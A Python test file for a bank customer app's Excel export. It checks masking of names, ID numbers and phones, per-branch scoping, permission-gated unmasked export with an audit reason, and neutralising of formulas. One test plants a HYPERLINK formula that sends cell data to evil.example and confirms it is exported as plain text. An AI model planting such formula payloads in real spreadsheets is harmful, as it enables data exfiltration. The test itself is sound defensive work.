"""Excel export: masked by default, unmasked only with permission and a reason, audited,
and safe to open (no formula runs)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from branchcx.audit.models import AuditEvent
from branchcx.customers.actions import do_update_customer
from branchcx.testing import client_for


def sheet_rows(response) -> list[list]:
    book = load_workbook(io.BytesIO(response.content))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def test_export_is_masked_scoped_and_audited(org, customer):
    response = client_for(org.manager_a).get("/customers/export/")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="customers-')
    header, row = sheet_rows(response)
    assert header[:2] == ["客户号", "姓名"]
    assert row[0] == "C0000001"
    assert row[1] == "张*丰" and row[5] == "3101**********001X" and row[6] == "138****5678"
    assert "13812345678" not in str(row) and "世纪大道" not in str(row)
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert event.detail == {"filters": {}, "rows": 1, "unmasked": False}
    # another branch's manager exports an empty list
    assert len(sheet_rows(client_for(org.manager_b).get("/customers/export/"))) == 1


def test_search_terms_are_masked_in_the_audit_log(org, customer):
    client = client_for(org.manager_a)
    listing = client.post("/customers/", {"q": "13812345678"})
    key = listing["Location"].split("search=")[1]
    rows = sheet_rows(client.get(f"/customers/export/?search={key}"))
    assert len(rows) == 2
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert event.detail["filters"]["q"] == "1***"


def test_unmasked_export_needs_the_permission_and_a_reason(org, customer):
    manager = client_for(org.manager_a)
    no_reason = manager.post("/customers/export/", {"unmasked": "1", "reason": ""})
    assert no_reason.status_code == 302 and not AuditEvent.objects.filter(action="export").exists()
    shown = manager.post("/customers/export/", {"unmasked": "1", "reason": "监管报送核对"})
    row = sheet_rows(shown)[1]
    assert row[1] == "张三丰" and row[6] == "13812345678"
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert event.reason == "监管报送核对" and event.detail["unmasked"] is True
    # an auditor may export the masked list but never plaintext; tellers not at all
    assert (
        client_for(org.auditor)
        .post("/customers/export/", {"unmasked": "1", "reason": "检查检查"})
        .status_code
        == 403
    )
    assert client_for(org.auditor).get("/customers/export/").status_code == 200
    assert client_for(org.teller_a).get("/customers/export/").status_code == 403


def test_formula_looking_text_is_exported_as_inert_text(org, customer):
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
    do_update_customer(org.teller_a, customer, expected_version=1, address=formula)
    shown = client_for(org.manager_a).post(
        "/customers/export/", {"unmasked": "1", "reason": "核对地址信息"}
    )
    book = load_workbook(io.BytesIO(shown.content))
    address = book.active.cell(row=2, column=9)
    assert book.active.cell(row=1, column=9).value == "地址"
    assert address.value == "'" + formula and address.data_type == "s"
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
